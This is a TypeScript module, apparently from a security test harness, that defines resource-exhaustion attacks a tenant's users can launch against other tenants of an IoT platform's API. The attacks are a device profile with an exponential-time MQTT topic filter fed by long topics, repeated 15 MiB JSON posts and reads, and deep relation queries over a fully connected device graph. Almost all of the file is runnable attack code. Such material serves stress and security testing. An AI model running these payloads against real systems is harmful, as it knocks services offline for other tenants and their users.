import { randomUUID } from "node:crypto";
import { setTimeout as pause } from "node:timers/promises";
import { connectAsync } from "mqtt";
import { slowChain } from "./slow-chain.ts";
import { type Attack, call, forever, type Target } from "./target.ts";

const MIB = 1024 * 1024;
const WALKED = 60;
/** Topics of one level and of as many as fit a packet. */
const TOPICS = ["a".repeat(500), "a".repeat(60_000), "a/".repeat(30_000)];

/** Attacks by a tenant's users on other tenants. */
export const TENANTS: Readonly<Record<string, Attack>> = {
  /** A topic filter with exponential matching time, if it is accepted, and topics that trigger it. */
  topicFilter: async (target, count) => {
    const { userToken: token, deviceToken: username, host, mqttPort: port } = target;
    const { text } = await call(target, { method: "GET", path: "/api/deviceProfiles?pageSize=1&page=0", token });
    const [profile] = (JSON.parse(text) as { data: readonly Record<string, unknown>[] }).data;
    const transportConfiguration = {
      type: "MQTT",
      deviceTelemetryTopic: "++++b",
      deviceAttributesTopic: "v1/devices/me/attributes",
      transportPayloadTypeConfiguration: { transportPayloadType: "JSON" },
    };
    const profileData = { ...(profile?.profileData as object), transportConfiguration };
    const body = JSON.stringify({ ...profile, transportType: "MQTT", profileData });
    const { status } = await call(target, { method: "POST", path: "/api/deviceProfile", token, body });
    count(`saved with ${status}`);
    const device = await connectAsync({ host, port, username });
    device.on("error", () => count("broken"));
    device.on("close", () => count("closed"));
    await forever(1, async (number) => {
      device.publish(TOPICS[number % TOPICS.length] ?? "", "{}", { qos: 0 });
      count("published");
      await pause(20);
    });
  },

  /** Three bodies of 15 MiB of JSON at a time. */
  bigJson: async (target, count) => {
    const body = bigDashboard();
    await forever(3, async () => {
      const { status } = await call(target, { method: "POST", path: "/api/dashboard", token: target.userToken, body });
      count(`status ${status}`);
    });
  },

  /** Ten readers at a time of a document of 15 MiB, and ten of what is short about it. */
  bigAnswers: async (target, count) => {
    const { userToken: token } = target;
    const { text } = await call(target, { method: "POST", path: "/api/dashboard", token, body: bigDashboard() });
    const [, id] = /"id":"([^"]+)"/.exec(text) ?? [];
    await forever(20, async (number) => {
      const path = number % 2 === 0 ? `/api/dashboard/${id}` : `/api/dashboard/info/${id}`;
      const { status } = await call(target, { method: "GET", path, token });
      count(`status ${status}`);
    });
  },

  /** Ten concurrent entity queries, each over a fully connected graph. */
  relationWalks: async (target, count) => {
    const { userToken: token } = target;
    const [rootId] = await relatedDevices(target, token);
    await forever(10, async (number) => {
      const body = JSON.stringify({
        entityFilter: {
          type: "relationsQuery",
          rootEntity: { entityType: "DEVICE", id: rootId },
          direction: "FROM",
          maxLevel: 50,
          fetchLastLevelOnly: false,
          filters: [],
        },
        entityFields: [{ type: "ENTITY_FIELD", key: "name" }],
        pageLink: { pageSize: 100, page: number % 50 },
      });
      const { status } = await call(target, { method: "POST", path: "/api/entitiesQuery/find", token, body });
      count(`status ${status}`);
    });
  },

  /** Ten concurrent lists of all relations of such an entity. */
  relationLists: async (target, count) => {
    const { userToken: token } = target;
    const [rootId] = await relatedDevices(target, token);
    const parameters = { rootId, rootType: "DEVICE", direction: "FROM", relationTypeGroup: "COMMON", maxLevel: 50 };
    const body = JSON.stringify({ parameters, filters: [] });
    await forever(10, async () => {
      const { status } = await call(target, { method: "POST", path: "/api/relations", token, body });
      count(`status ${status}`);
    });
  },

  slowChain,
};

function bigDashboard(): string {
  const widgets = `[${"{},".repeat(5 * MIB)}{}]`;
  return JSON.stringify({ title: "big", configuration: {} }).replace("{}", `{"widgets":${widgets}}`);
}

/** Ids of new devices with relations from each to each. */
async function relatedDevices(target: Target, token: string): Promise<readonly string[]> {
  const ids: string[] = [];
  for (let number = 0; number < WALKED; number++) {
    const body = JSON.stringify({ name: `walked ${randomUUID()}` });
    const { text } = await call(target, { method: "POST", path: "/api/device", token, body });
    ids.push((JSON.parse(text) as { id: { id: string } }).id.id);
  }
  for (const from of ids) {
    const relate = async (to: string): Promise<void> => {
      const body = JSON.stringify({
        from: { entityType: "DEVICE", id: from },
        to: { entityType: "DEVICE", id: to },
        type: "Contains",
        typeGroup: "COMMON",
      });
      await call(target, { method: "POST", path: "/api/relation", token, body });
    };
    await Promise.all(ids.filter((to) => to !== from).map(relate));
  }
  return ids;
}
